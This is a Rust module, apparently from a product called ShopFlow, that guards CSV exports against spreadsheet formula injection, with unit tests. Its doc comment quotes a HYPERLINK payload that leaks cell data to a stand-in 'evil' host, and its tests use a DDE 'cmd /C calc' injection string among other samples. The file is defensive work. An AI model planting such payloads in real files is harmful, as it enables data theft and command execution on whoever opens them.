//! Cells that are safe to open: every CSV ShopFlow writes goes through here.
//!
//! A spreadsheet executes a cell that begins with `=`, `+`, `-` or `@` (and, in some, a tab or
//! carriage return) as a formula: a product named `=HYPERLINK("http://evil/?"&A1)` in a report
//! CSV is an attack on whoever opens it (CSV / formula injection, OWASP). [`neutralize`]
//! prefixes such a cell with `'`, which spreadsheets show as text and do not evaluate; a plain
//! number (`-5`, `+3.25`, `-1e3`) is left alone, so numeric columns stay numeric. Very long
//! values are cut at [`MAX_CELL_CHARS`] (a spreadsheet's own cell limit) and control characters
//! other than tab and newline are replaced, so a cell cannot smuggle terminal escapes either.
//!
//! Only the CSV copies change: Parquet and Delta tables keep every value losslessly.

use std::borrow::Cow;
use std::sync::Arc;

use arrow::array::{Array, ArrayRef, AsArray, RecordBatch, StringArray};
use arrow::datatypes::DataType;

/// The longest cell written to a CSV, in characters (Excel's limit is 32,767).
pub const MAX_CELL_CHARS: usize = 32_000;

/// The characters that make a spreadsheet evaluate a cell when they come first.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn is_plain_number(s: &str) -> bool {
    let t = s.trim();
    !t.is_empty()
        && t.bytes()
            .all(|b| b.is_ascii_digit() || matches!(b, b'+' | b'-' | b'.' | b'e' | b'E'))
        && t.parse::<f64>().is_ok()
}

/// `value` as a CSV cell that a spreadsheet shows and never executes.
pub fn neutralize(value: &str) -> Cow<'_, str> {
    let risky = value
        .chars()
        .next()
        .is_some_and(|c| FORMULA_START.contains(&c))
        && !is_plain_number(value);
    let controls = value
        .chars()
        .any(|c| c.is_control() && c != '\t' && c != '\n' && c != '\r');
    let long = value.len() > MAX_CELL_CHARS && value.chars().count() > MAX_CELL_CHARS;
    if !risky && !controls && !long {
        return Cow::Borrowed(value);
    }
    let mut out = String::with_capacity(value.len().min(MAX_CELL_CHARS * 4) + 16);
    if risky {
        out.push('\'');
    }
    for (i, c) in value.chars().enumerate() {
        if i == MAX_CELL_CHARS {
            out.push_str("…[truncated]");
            break;
        }
        if c.is_control() && c != '\t' && c != '\n' && c != '\r' {
            out.push('\u{fffd}');
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// Re-writes CSV bytes (as the `csv` crate wrote them) with every cell neutralized.
pub fn neutralize_csv(bytes: &[u8]) -> Result<Vec<u8>, csv::Error> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes);
    let mut writer = csv::Writer::from_writer(Vec::with_capacity(bytes.len()));
    let mut record = csv::StringRecord::new();
    while reader.read_record(&mut record)? {
        writer.write_record(record.iter().map(|f| neutralize(f).into_owned()))?;
    }
    writer
        .into_inner()
        .map_err(|e| csv::Error::from(e.into_error()))
}

/// `batch` with every text value neutralized (other columns untouched), for a CSV writer.
pub fn neutralize_batch(batch: &RecordBatch) -> Result<RecordBatch, arrow::error::ArrowError> {
    crate::layer::map_columns(batch, |c| match c.data_type() {
        DataType::Utf8 | DataType::LargeUtf8 | DataType::Utf8View => {
            let text = arrow::compute::cast(c, &DataType::Utf8)?;
            let strings = text.as_string::<i32>();
            let safe: StringArray = strings
                .iter()
                .map(|v| v.map(|s| neutralize(s).into_owned()))
                .collect();
            Ok(Arc::new(safe) as ArrayRef)
        }
        _ => Ok(c.clone()),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_prefixed_and_numbers_are_not() {
        for bad in [
            "=1+1",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\t=x",
            "=HYPERLINK(\"http://x\")",
        ] {
            assert!(neutralize(bad).starts_with('\''), "{bad:?}");
        }
        for ok in ["-5", "+3.25", "-1e3", "0", "plain", "a=b", "", "2024-03-15"] {
            assert_eq!(neutralize(ok), ok, "{ok:?}");
        }
    }

    #[test]
    fn control_characters_are_replaced_and_long_cells_cut() {
        assert_eq!(neutralize("a\u{1b}[31mb"), "a\u{fffd}[31mb");
        let long = "x".repeat(MAX_CELL_CHARS + 10);
        let cut = neutralize(&long);
        assert!(cut.ends_with("…[truncated]"));
        assert_eq!(
            cut.chars().count(),
            MAX_CELL_CHARS + "…[truncated]".chars().count()
        );
    }

    #[test]
    fn a_written_csv_is_rewritten_cell_by_cell() {
        let csv = b"name,amount\n\"=1+2\",-5\n\"say, \"\"hi\"\"\",3\n";
        let safe = String::from_utf8(neutralize_csv(csv).unwrap()).unwrap();
        assert_eq!(safe, "name,amount\n'=1+2,-5\n\"say, \"\"hi\"\"\",3\n");
    }

    #[test]
    fn a_batch_keeps_its_numbers_and_neutralizes_its_text() {
        let batch = RecordBatch::try_from_iter([
            (
                "name",
                Arc::new(StringArray::from(vec![Some("@x"), None])) as ArrayRef,
            ),
            (
                "n",
                Arc::new(arrow::array::Int64Array::from(vec![-1, 2])) as ArrayRef,
            ),
        ])
        .unwrap();
        let safe = neutralize_batch(&batch).unwrap();
        assert_eq!(safe.column(0).as_string::<i32>().value(0), "'@x");
        assert!(safe.column(0).is_null(1));
        assert_eq!(safe.column(1).as_ref(), batch.column(1).as_ref());
    }
}
